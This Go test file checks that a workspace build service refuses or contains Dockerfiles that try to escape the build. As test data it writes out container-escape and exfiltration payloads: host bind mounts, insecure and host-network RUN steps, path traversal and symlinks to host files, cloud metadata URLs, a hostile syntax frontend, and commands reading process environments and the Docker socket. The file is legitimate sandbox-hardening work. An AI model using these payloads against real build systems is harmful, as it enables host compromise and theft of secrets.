package start_test

import (
	"strings"
	"testing"
)

// builds are Dockerfiles that want out of their build, and images that want more than their files. image is one that they may
// begin with.
func (c *canaries) builds(t *testing.T, w world, image string) {
	from := "FROM " + image + "\n"
	for name, f := range map[string]struct{ text, want string }{
		"an address":                 {from + "ADD http://127.0.0.1:" + c.port + "/x /x\n", "ADD takes files of the repository only"},
		"an address in a variable":   {from + "ARG A=http://127.0.0.1:" + c.port + "/x\nADD $A /x\n", "ADD takes files of the repository only"},
		"a mount":                    {from + "RUN --mount=type=bind,source=/,target=/host cat /host" + c.file + "\n", "is not supported"},
		"a build without a sandbox":  {from + "RUN --security=insecure id\n", "is not supported"},
		"the machine's network":      {from + "RUN --network=host curl http://127.0.0.1:" + c.port + "/\n", "is not supported"},
		"a file above the context":   {from + "COPY ../../../../../.." + c.file + " /leaked\n", "failed"},
		"a file of the machine":      {from + "COPY " + c.file + " /leaked\n", "failed"},
		"a link to a file of it":     {from + "COPY leaked /leaked\n", "failed"},
		"an image of metadata":       {"FROM 169.254.169.254/latest/meta-data\n", "failed"},
		"a copy of metadata":         {from + "COPY --from=169.254.169.254/latest/meta-data / /x\n", "failed"},
		"another line under another": {from + "RUN true \\\\\nADD http://127.0.0.1:" + c.port + "/x /x\n", "two backslashes"},
	} {
		t.Run(name, func(t *testing.T) {
			w.commitObjects(t, "built", map[string]object{".gitpod.yml": {text: "image: {file: Dockerfile}\n"}, "Dockerfile": {text: f.text}, "leaked": link(c.file)})
			c.refuses(t, w, "built", f.want)
		})
	}
	look := "cat /context/leaked /context/up " + c.file + "; ls -la /var/run/docker.sock " + c.outside + "; env; cat /proc/1/environ"
	w.commitObjects(t, "built", map[string]object{
		".gitpod.yml": {text: "image: {file: Dockerfile}\n"},
		"Dockerfile": {text: "# syntax=127.0.0.1:" + c.port + "/evil\n" + from + "COPY . /context/\nCOPY x*.txt /copied/\nRUN (" + look + ") > /looked 2>&1; " + c.run("build") + "; chmod 666 /tmp/ran\n" +
			"ENV LANYARD_STARTER_FD=4 LANYARD_WORKSPACE_ID=w-stolen\nVOLUME /data\nUSER vscode\nHEALTHCHECK --interval=1s CMD " + c.run("health") + "\nENTRYPOINT [\"sh\", \"-c\", \"" + c.run("entry") + "\"]\nCMD [\"" + c.outside + "\"]\n" +
			`LABEL devcontainer.metadata='[{"privileged": true, "capAdd": ["SYS_ADMIN"], "mounts": ["type=bind,source=/,target=/host"], "onCreateCommand": "` + c.run("label") + `"}]' com.docker.compose.project=x` + "\n"},
		".dockerignore": link(c.file),
		"x.txt":         {text: "x\n"},
		"leaked":        link(c.file),
		"up":            link("../../../../../../../../.." + c.file),
	})
	ws := w.runs(t, "built")
	c.silent(t, w)
	out := w.Must("ada", ws, "cat /looked; ls -l /context /copied; cat /copied/* /context/leaked /context/up; ls /host; cat /proc/self/status; echo $LANYARD_WORKSPACE_ID; true")
	c.silent(t, w, out)
	for _, want := range []string{"leaked", "cat: " + c.file + ": No such file", "CapEff:\t0000000000000000", "\n" + ws.ID + "\n"} {
		if !strings.Contains(out, want) {
			t.Errorf("it does not say %q: %s", want, out)
		}
	}
	if ran := w.Must("ada", ws, "sleep 2; sort -u /tmp/ran"); ran != "build\n" { // neither entry point nor health check, nor what a label says to a .gitpod.yml
		t.Errorf("there ran %q", ran)
	}
}
